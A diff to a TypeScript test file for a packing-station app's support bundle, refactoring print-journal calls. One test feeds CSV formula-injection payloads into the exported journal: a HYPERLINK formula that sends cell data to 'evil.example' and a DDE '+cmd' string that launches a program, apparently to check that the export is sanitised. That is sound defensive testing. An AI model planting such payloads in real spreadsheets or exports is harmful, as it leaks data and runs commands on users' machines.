@@ -6,7 +6,8 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { createLogger } from '../../../src/main/logging/logger';
 import { createRedactor } from '../../../src/main/logging/redaction';
 import { createRotatingFileSink } from '../../../src/main/logging/rotating-file-sink';
-import { emptyRunOptions, PrintJournal } from '../../../src/main/printing/journal/print-journal';
+import { emptyRunOptions } from '../../../src/main/printing/journal/journal-rows';
+import { PrintJournal } from '../../../src/main/printing/journal/print-journal';
 import { SqliteEngine } from '../../../src/main/store/engine/sqlite-engine';
 import { openDatabase } from '../../../src/main/store/database';
 import { journalPart, logsPart, settingsPart, versionsPart } from '../../../src/main/support/bundle-parts';
@@ -121,18 +122,18 @@ describe('the support bundle', () => {
     const journal = new PrintJournal(new SqliteEngine(db, false), () => now);
     const options = emptyRunOptions();
     const label = (orderId: string) => ({ orderId, bundleId: null, bundlePosition: null, bundleCount: null, format: 'zpl' as const });
-    await journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-DAY-BEFORE')] });
+    await journal.runRecords.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-DAY-BEFORE')] });
     now = new Date('2026-03-02T07:00:00Z');
-    const late = await journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-LIVE')] });
-    await journal.markSent(late.entries[0]?.id ?? -1);
-    await journal.markPrinted([late.entries[0]?.id ?? -1]);
+    const late = await journal.runRecords.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: 'ana', options, labels: [label('ORD-LIVE')] });
+    await journal.labels.markSent(late.entries[0]?.id ?? -1);
+    await journal.labels.markPrinted([late.entries[0]?.id ?? -1]);
     now = new Date('2026-03-02T06:00:00Z');
-    const earlier = await journal.createRun({ environment: 'test', kind: 'single', printerId: 'zebra-2', operator: 'bo', options, labels: [label('ORD-TEST')] });
-    await journal.markFailed(earlier.entries[0]?.id ?? -1, 'paper out, "head" open');
+    const earlier = await journal.runRecords.createRun({ environment: 'test', kind: 'single', printerId: 'zebra-2', operator: 'bo', options, labels: [label('ORD-TEST')] });
+    await journal.labels.markFailed(earlier.entries[0]?.id ?? -1, 'paper out, "head" open');
 
     const file = join(folder, 'bundle.zip');
     const clock = () => new Date('2026-03-02T08:15:00Z');
-    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal), clock)] });
+    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal.history), clock)] });
     db.close();
 
     const csv = (unzip(file)['journal/last-day.csv'] ?? '').trim().split('\n');
@@ -154,12 +155,12 @@ describe('the support bundle', () => {
       operator: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       reasons: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'],
     };
-    const run = await journal.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: hostile.operator, options: emptyRunOptions(), labels: hostile.reasons.map((_, index) => label(`ORD-${index}`)) });
-    for (const [index, reason] of hostile.reasons.entries()) await journal.markFailed(run.entries[index]?.id ?? -1, reason);
+    const run = await journal.runRecords.createRun({ environment: 'live', kind: 'single', printerId: 'zebra-1', operator: hostile.operator, options: emptyRunOptions(), labels: hostile.reasons.map((_, index) => label(`ORD-${index}`)) });
+    for (const [index, reason] of hostile.reasons.entries()) await journal.labels.markFailed(run.entries[index]?.id ?? -1, reason);
 
     const file = join(folder, 'bundle.zip');
     const clock = () => new Date('2026-03-02T08:15:00Z');
-    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal), clock)] });
+    await saveSupportBundle(file, { product: 'Packing Station', redactor: createRedactor(), clock, parts: [journalPart(printJournalExport(journal.history), clock)] });
     db.close();
 
     const rows = parseCsv(unzip(file)['journal/last-day.csv'] ?? '');
